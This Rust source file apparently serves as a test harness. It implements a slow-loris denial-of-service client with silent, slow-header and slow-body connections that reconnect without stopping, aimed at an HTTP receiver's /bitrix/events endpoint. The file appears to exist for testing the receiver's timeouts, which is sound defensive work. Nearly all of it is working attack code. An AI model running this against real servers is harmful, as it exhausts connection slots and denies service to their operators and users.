//! Slow-loris clients: connections that take a slot of the receiver and never finish a request.
//!
//! Three kinds, as an attacker mixes them: silent (connects and sends nothing), slow head (a request
//! line, then a header one byte at a time, never ending) and slow body (a complete head announcing a
//! large `Content-Length`, then the body one byte at a time). Each attacker reconnects as soon as the
//! receiver closes its connection, so the pressure stays on for as long as the attack runs.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// What one attacking connection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connects and sends nothing.
    Silent,
    /// Sends a request line, then a header a byte at a time.
    SlowHead,
    /// Sends a whole head with `Content-Length: 1000000`, then the body a byte at a time.
    SlowBody,
}

impl Kind {
    /// The three kinds, in turn.
    pub const ALL: [Kind; 3] = [Kind::Silent, Kind::SlowHead, Kind::SlowBody];
}

/// A running slow-loris attack; stops when dropped.
#[derive(Debug)]
pub struct SlowLoris {
    tasks: JoinSet<()>,
    connected: Arc<AtomicUsize>,
    closed: Arc<AtomicUsize>,
}

impl SlowLoris {
    /// Starts `n` attackers against `addr` (the kinds in turn), each sending a byte every `drip`.
    pub fn start(addr: SocketAddr, n: usize, drip: Duration) -> Self {
        let connected = Arc::new(AtomicUsize::new(0));
        let closed = Arc::new(AtomicUsize::new(0));
        let mut tasks = JoinSet::new();
        for i in 0..n {
            let kind = Kind::ALL[i % Kind::ALL.len()];
            let (connected, closed) = (Arc::clone(&connected), Arc::clone(&closed));
            tasks.spawn(async move {
                loop {
                    let Ok(stream) = TcpStream::connect(addr).await else {
                        tokio::time::sleep(drip).await;
                        continue;
                    };
                    connected.fetch_add(1, Ordering::Relaxed);
                    hold(stream, kind, drip).await;
                    closed.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        Self { tasks, connected, closed }
    }

    /// Connections established so far (accepted by the kernel; the receiver may not have taken them).
    pub fn connected(&self) -> usize {
        self.connected.load(Ordering::Relaxed)
    }

    /// Connections the receiver has closed so far.
    pub fn closed(&self) -> usize {
        self.closed.load(Ordering::Relaxed)
    }

    /// Stops every attacker and closes their connections.
    pub async fn stop(mut self) {
        self.tasks.shutdown().await;
    }
}

/// Plays `kind` on `stream` until the receiver closes it; returns what the receiver sent.
pub async fn hold(mut stream: TcpStream, kind: Kind, drip: Duration) -> Vec<u8> {
    let (mut reader, mut writer) = stream.split();
    let drip_bytes = async {
        let result: std::io::Result<()> = async {
            match kind {
                Kind::Silent => std::future::pending().await,
                Kind::SlowHead => writer.write_all(b"POST /bitrix/events HTTP/1.1\r\nHost: olbridge\r\nX-Slow: ").await?,
                Kind::SlowBody => {
                    let head =
                        "POST /bitrix/events HTTP/1.1\r\nHost: olbridge\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n";
                    writer.write_all(head.as_bytes()).await?;
                }
            }
            loop {
                tokio::time::sleep(drip).await;
                writer.write_all(b"a").await?;
            }
        }
        .await;
        result
    };
    let mut received = Vec::new();
    let closed = async {
        // Whatever the receiver answers (a 408 for a slow body), the end is EOF or a reset.
        let mut buf = [0u8; 1024];
        while let Ok(n @ 1..) = reader.read(&mut buf).await {
            received.extend_from_slice(&buf[..n]);
        }
    };
    tokio::select! {
        _ = drip_bytes => {}
        () = closed => {}
    }
    received
}
